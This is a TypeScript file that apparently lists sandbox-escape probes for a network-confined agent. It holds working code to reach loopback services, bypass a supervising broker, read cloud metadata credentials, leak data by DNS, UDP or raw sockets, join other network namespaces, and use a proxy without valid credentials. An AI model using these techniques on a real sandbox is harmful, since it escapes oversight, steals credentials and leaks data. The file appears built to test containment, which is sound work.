import { createSocket } from 'node:dgram'
import { Resolver } from 'node:dns/promises'
import { get } from 'node:http'
import type { Escape, Surroundings } from '../escape.ts'
import { python, speak } from '../tools.ts'
import { GET, METADATA, NEARLY, name, page, proxy, SPELLINGS, socks, tunnel } from '../way-out.ts'

function fetched(url: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const request = get(url, { agent: false, timeout: 1_500 }, (response) => {
      let body = ''
      response.on('data', (chunk) => {
        body += chunk
      })
      response.on('end', () => resolve(body))
    })
    request.on('timeout', () => request.destroy(new Error('no answer')))
    request.on('error', reject)
  })
}

const brokerPort = ({ broker }: Surroundings) => Number(new URL(broker).port)

const loopback: Escape[] = [
  {
    name: 'reach a web server on loopback directly',
    gain: 'what developers run without a password',
    plain: true,
    proof: 'secret',
    attempt: ({ webPort }) => fetched(`http://127.0.0.1:${webPort}/`),
  },
  {
    name: 'reach it through a tunnel of the proxy, its address spelled in 30 ways',
    gain: 'what developers run without a password',
    plain: false,
    proof: 'claim',
    attempt: ({ webPort }) => tunnel(SPELLINGS, webPort, GET('/')),
  },
  {
    name: 'reach it as a page through the proxy, its address spelled in 30 ways',
    gain: 'what developers run without a password',
    plain: false,
    proof: 'claim',
    attempt: ({ webPort }) => page(SPELLINGS, webPort, '/'),
  },
  {
    name: 'reach it through SOCKS, by address and by name',
    gain: 'what developers run without a password',
    plain: false,
    proof: 'secret',
    attempt: async ({ webPort }) =>
      (
        await Promise.all([
          socks(Buffer.of(1, 127, 0, 0, 1), webPort, GET('/')),
          socks(Buffer.of(1, 0, 0, 0, 0), webPort, GET('/')),
          socks(name('localhost'), webPort, GET('/')),
          socks(name('127.0.0.1'), webPort, GET('/')),
          socks(Buffer.concat([Buffer.of(4), Buffer.alloc(15), Buffer.of(1)]), webPort, GET('/')),
        ])
      ).join('\n'),
  },
  {
    name: 'reach a database on loopback directly',
    gain: 'its own sign-in, past the port that signs in',
    plain: true,
    proof: 'claim',
    attempt: ({ databasePort }) =>
      speak({ port: databasePort, say: Buffer.of(0, 0, 0, 8, 4, 210, 22, 47) }),
  },
]

const broker: Escape[] = [
  {
    name: 'reach the broker directly',
    gain: 'to ask without the supervisor',
    plain: true,
    proof: 'claim',
    attempt: (s) => fetched(`${s.broker}/healthz`),
  },
  {
    name: 'reach the broker through the proxy: a tunnel, a page, SOCKS',
    gain: 'to ask without the supervisor',
    plain: false,
    proof: 'claim',
    attempt: async (s) => {
      const port = brokerPort(s)
      const tries = await Promise.allSettled([
        tunnel(SPELLINGS, port, GET('/healthz')),
        page(SPELLINGS, port, '/healthz'),
        page(['example.com'], port, '/healthz', `127.0.0.1:${port}`),
        socks(Buffer.of(1, 127, 0, 0, 1), port, GET('/healthz')),
      ])
      const got = tries.map((one) => (one.status === 'fulfilled' ? one.value : ''))
      return got.find((answer) => answer.includes('"status":"ok"'))
    },
  },
]

const outwards: Escape[] = [
  {
    name: "reach the cloud's metadata service, its address spelled in 14 ways",
    gain: "the machine's own credentials",
    plain: false,
    proof: 'claim',
    attempt: async () => {
      const answers = await Promise.allSettled([
        fetched('http://169.254.169.254/latest/meta-data/'),
        tunnel(METADATA, 80, ''),
        page(METADATA, 80, '/latest/meta-data/'),
      ])
      return (
        answers.map((one) => (one.status === 'fulfilled' ? one.value : '')).join('') || undefined
      )
    },
  },
  {
    name: 'reach names that are nearly one that may be reached',
    gain: 'a way to send out what it read',
    plain: false,
    proof: 'claim',
    attempt: () => tunnel(NEARLY, 443, ''),
  },
  {
    name: 'reach the internet: by address, by DNS over HTTPS, by another port of a name that may be reached',
    gain: 'a way to send out what it read',
    plain: false,
    proof: 'claim',
    attempt: async () => {
      const tries = await Promise.allSettled([
        tunnel(['1.1.1.1', '8.8.8.8', 'dns.google', 'cloudflare-dns.com', 'example.net'], 443, ''),
        tunnel(['example.com'], 22, ''),
        page(['1.1.1.1', 'example.net', 'example.com'], 80, '/'),
      ])
      return tries.map((one) => (one.status === 'fulfilled' ? one.value : '')).join('') || undefined
    },
  },
  {
    name: 'send out a question by DNS',
    gain: 'a way to send out what it read, one name at a time',
    plain: true,
    proof: 'secret',
    attempt: async ({ dnsPort }) => {
      const resolver = new Resolver({ timeout: 800, tries: 1 })
      resolver.setServers([`127.0.0.1:${dnsPort}`])
      return (await resolver.resolveTxt('secret.example.com')).flat().join('')
    },
  },
  {
    name: 'send a datagram out of the machine',
    gain: 'a way to send out what it read',
    plain: false,
    proof: 'claim',
    attempt: () =>
      new Promise((resolve, reject) => {
        const socket = createSocket('udp4')
        socket.send('x', 9, '192.0.2.1', (error) => {
          socket.close()
          if (error) reject(error)
          else resolve('sent')
        })
      }),
  },
  {
    name: 'send packets of its own making (ICMP, raw and packet sockets on an interface that leads out)',
    gain: 'a way to send out what it read, and to listen',
    plain: false,
    needs: ['python3'],
    proof: 'claim',
    attempt: () =>
      python(
        `for family, kind, protocol in ((2, 3, 1), (2, 3, 255), (17, 3, 0x300), (17, 2, 0x300), (2, 2, 1)):
    fd = libc.socket(family, kind, socket.htons(protocol) if family == 17 else protocol)
    if fd < 0: continue
    if family == 17: print('packets'); break
    try: socket.socket(fileno=fd).sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('192.0.2.1', 0)); print('sent'); break
    except OSError as error: last = error
else: sys.exit('refused')`,
      ),
  },
  {
    name: "enter another process's network (setns), or give its own an interface that leads out",
    gain: 'the whole network',
    plain: false,
    needs: ['python3'],
    proof: 'claim',
    attempt: async () =>
      python(
        `import glob
own = os.readlink('/proc/self/ns/net')
for path in glob.glob('/proc/[0-9]*/ns/net') + glob.glob('/run/netns/*') + glob.glob('/var/run/netns/*'):
    try:
        if os.readlink(path) == own: continue
    except OSError: pass
    try: fd = os.open(path, os.O_RDONLY)
    except OSError: continue
    if libc.setns(fd, 0x40000000) == 0 and os.readlink('/proc/self/ns/net') != own: print(path); sys.exit(0)
links = [line.split(':')[0].strip() for line in open('/proc/net/dev').readlines()[2:]]
if any(link != 'lo' for link in links): print(links)
else: sys.exit('nothing but lo')`,
      ),
  },
  {
    name: 'use the proxy without its password, or with a wrong one',
    gain: 'the way out of another sandbox',
    plain: false,
    proof: 'claim',
    attempt: async () => {
      const { port } = proxy()
      const wrong = [
        '',
        'Proxy-Authorization: Basic c3J0Og==\r\n',
        'Proxy-Authorization: Bearer x\r\n',
      ]
      const answers = await Promise.all(
        wrong.map((line) =>
          speak({
            port,
            say: `CONNECT example.com:443 HTTP/1.1\r\nHost: example.com\r\n${line}\r\n`,
          }),
        ),
      )
      return answers.find((answer) => !/^HTTP\/1\.[01] 407/.test(answer) && answer !== '')
    },
  },
]

/** What is reached over a network. */
export const network: readonly Escape[] = [...loopback, ...broker, ...outwards]
